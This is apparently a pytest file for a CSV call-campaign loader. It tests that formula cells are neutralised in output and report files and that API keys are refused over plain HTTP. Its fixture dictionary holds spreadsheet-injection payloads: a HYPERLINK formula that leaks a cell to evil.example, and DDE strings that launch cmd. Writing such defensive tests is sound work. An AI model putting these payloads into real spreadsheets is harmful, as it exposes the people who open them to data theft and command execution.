"""Security promises: formula cells are inert where people open them, untouched where the API reads
them; the key is never sent in clear text across a network."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from loader.cli import main
from loader.pipeline import load_campaign
from loader.sandbox import Sandbox, SandboxTransport

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "+cmd|' /C calc'!A0",
    "minus_formula": "-2+3",
    "tab_first": "\t=1+1",
    "cr_first": "\r=1+1",
}
HARMLESS = {"phone_like": "+919876543210", "negative": "-3"}


def write_sheet(folder: Path) -> Path:
    path = folder / "webform.csv"
    headers = ["phone", "Name", *FORMULAS, *HARMLESS]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(headers)
        writer.writerow(["+919876543210", "=1+1", *FORMULAS.values(), *HARMLESS.values()])
    return path


def test_formula_cells_are_inert_in_the_results_but_sent_to_the_api_exactly_as_written(
    tmp_path: Path,
) -> None:
    sheet = write_sheet(tmp_path)
    sandbox = Sandbox(agents=["demo-agent"])
    result = load_campaign(
        sheet,
        agent_id="demo-agent",
        sandbox=True,
        transport=SandboxTransport(sandbox),
        default_region="IN",
        output=tmp_path / "results.csv",
    )
    assert result.counts == {"scheduled": 1}

    with (tmp_path / "results.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    for column, formula in FORMULAS.items():
        assert row[column] == "'" + formula, column
    assert row["Name"] == "'=1+1"
    for column, value in HARMLESS.items():
        assert row[column] == value, column
    assert row["phone"] == "+919876543210"

    (call,) = sandbox.calls
    metadata = call["body"]["metadata"]
    for column, formula in FORMULAS.items():
        assert metadata[column] == formula, column
    assert metadata["Name"] == "=1+1"
    assert metadata["phone_like"] == "+919876543210"
    assert metadata["negative"] == -3


def test_formula_cells_are_inert_in_the_problem_report(tmp_path: Path) -> None:
    path = tmp_path / "webform.csv"
    path.write_text('phone,Name\n"=HYPERLINK(""x"")",Asha\n', encoding="utf-8")
    assert main(["validate", str(path), "--report", str(tmp_path / "problems.csv")]) == 1
    with (tmp_path / "problems.csv").open(encoding="utf-8-sig", newline="") as handle:
        (problem,) = list(csv.DictReader(handle))
    assert problem["value"] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize(
    "base_url",
    ["http://example.com", "http://10.0.0.5:8787", "http://api.callkaro.ai", "http://127.0.0.1.evil.example"],
)
def test_a_key_is_never_sent_over_plain_http_to_another_machine(
    tmp_path: Path, base_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = write_sheet(tmp_path)
    monkeypatch.setenv("CALLKARO_API_KEY", "a-real-looking-key")
    code = main(["run", str(sheet), "--agent-id", "a", "--default-region", "IN", "--base-url", base_url])
    err = capsys.readouterr().err
    assert code == 2
    assert err.splitlines()[0] == (
        f"callkaro-loader: error: --base-url {base_url!r} uses plain http to a host that is not this "
        "machine, which would send the API key unencrypted"
    )
    assert "a-real-looking-key" not in err
    assert not list(tmp_path.glob("*.state")), "a refused run must leave nothing behind"
